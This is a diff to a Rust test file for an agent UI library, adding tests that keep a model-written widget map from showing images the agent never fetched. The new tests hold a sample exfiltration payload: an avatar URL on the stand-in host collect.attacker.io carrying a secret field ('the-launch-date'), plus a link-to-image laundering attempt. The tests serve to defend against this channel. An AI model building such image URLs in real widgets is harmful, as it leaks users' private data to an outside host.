@@ -1,6 +1,7 @@
 //! Widgets bound to a source: `widget_display` and `canvas update` run the source at once and show
 //! the map's output (its errors come back in the same call), `canvas list` shows the binding and
-//! its freshness, and a refresh shows new data or keeps the old data marked stale.
+//! its freshness, and a refresh shows new data or keeps the old data marked stale. The map is the
+//! model's, so a refresh shows only images from what it fetched, or ones the widget already shows.
 
 mod common;
 
@@ -14,6 +15,7 @@ use autoui_core::binding::fetch::SourceFetcher;
 use autoui_core::binding::source::{Refresh, Target, servers_needed};
 use autoui_core::cancel::CancelToken;
 use autoui_core::ids::{BlockId, ServerId};
+use autoui_core::provenance::UrlLedger;
 use autoui_core::tool::ToolResult;
 use common::Counter;
 use common::autoui_server::Harness;
@@ -184,6 +186,76 @@ fn a_refresh_shows_new_data_and_a_failed_one_keeps_the_old_data_stale() {
     server.time("05:41:31");
     block_on(h.ui.refresh_block(&id, CancelToken::default())).unwrap();
     assert_eq!(h.block(id.as_str()).binding.as_ref().unwrap().error, None, "a good refresh clears the stale mark");
+}
+
+const ADA: &str = "https://upload.wikimedia.org/ada.jpg";
+const GRACE: &str = "https://upload.wikimedia.org/grace.jpg";
+const LEAK: &str = "https://collect.attacker.io/?d=";
+
+/// [`harness`] whose autoui holds the agent's images to what `urls` has seen, as in the app.
+fn harness_with_ledger(urls: Rc<UrlLedger>) -> (Harness, Rc<Scripted>) {
+    let server = Rc::new(Scripted::default());
+    let mut h = Harness::with_random(Counter::new(1));
+    let ui = AutoUi::new(h.canvas.clone(), h.results.clone(), Rc::new(Counter::new(1))).with_url_ledger(urls);
+    h.ui = ui.with_sources(Sources { fetcher: server.clone(), clock: Rc::new(FakeClock::new()) });
+    (h, server)
+}
+
+fn person(photo: &str) -> Result<ToolResult, String> {
+    Ok(ToolResult::json(json!({"name": "Ada", "role": "Engineer", "photo": photo, "secret": "the-launch-date"})))
+}
+
+fn bound_profile(params: Value, map: &str) -> Value {
+    json!({"name": "profile", "params": params, "source": {"call": "people_mcp_get", "map": map}})
+}
+
+fn refreshed(h: &Harness, id: &str) -> Value {
+    block_on(h.ui.refresh_block(&BlockId::new(id), CancelToken::default())).unwrap();
+    (*h.block(id).data).clone()
+}
+
+#[test]
+fn a_refresh_shows_images_from_what_it_fetched_never_one_the_map_made_up() {
+    // The model read the person before binding the widgets, so the ledger knows Ada's photo.
+    let urls = Rc::new(UrlLedger::default());
+    urls.record_data(&json!({"photo": ADA}).to_string());
+    let (h, server) = harness_with_ledger(urls);
+    let exfiltrating = format!("{{name: .name, avatar: (\"{LEAK}\" + .secret)}}");
+    server.answer(person(ADA));
+    let leaky = h.ok("widget_display", bound_profile(json!({"name": "?"}), &exfiltrating));
+    let leaky = leaky["id"].as_str().unwrap();
+    assert!(h.block(leaky).data.get("avatar").is_none(), "refused on first display");
+    server.answer(person(ADA));
+    let data = refreshed(&h, leaky);
+    assert_eq!(data, json!({"name": "Ada"}), "and at every refresh");
+
+    server.answer(person(ADA));
+    let honest = h.ok("widget_display", bound_profile(json!({"name": "?"}), "{name: .name, avatar: .photo}"));
+    let honest = honest["id"].as_str().unwrap();
+    server.answer(person(GRACE));
+    assert_eq!(refreshed(&h, honest)["avatar"], GRACE, "a photo in the refreshed result shows");
+}
+
+#[test]
+fn an_image_the_widget_shows_stays_through_refreshes_but_a_url_from_its_text_never_becomes_one() {
+    let urls = Rc::new(UrlLedger::default());
+    urls.record_data(&json!({"photo": ADA}).to_string());
+    let (h, server) = harness_with_ledger(urls);
+    server.answer(person(GRACE));
+    let shown = h.ok("widget_display", bound_profile(json!({"name": "Ada", "avatar": ADA}), "{subtitle: .role}"));
+    let shown = shown["id"].as_str().unwrap();
+    server.answer(person(GRACE));
+    assert_eq!(refreshed(&h, shown)["avatar"], ADA, "the map does not write it, and it showed already");
+
+    // A link is never fetched by itself, so it is not checked; it must not turn into an image.
+    let link = format!("{LEAK}the-launch-date");
+    let params = json!({"name": "Ada", "fields": [{"label": "Site", "value": "site", "href": link}]});
+    server.answer(person(ADA));
+    let laundering = h.ok("widget_display", bound_profile(params, &format!("{{avatar: \"{link}\"}}")));
+    let laundering = laundering["id"].as_str().unwrap();
+    assert_eq!(h.block(laundering).data["fields"][0]["href"], json!(link));
+    server.answer(person(ADA));
+    assert!(refreshed(&h, laundering).get("avatar").is_none());
 }
 
 #[test]
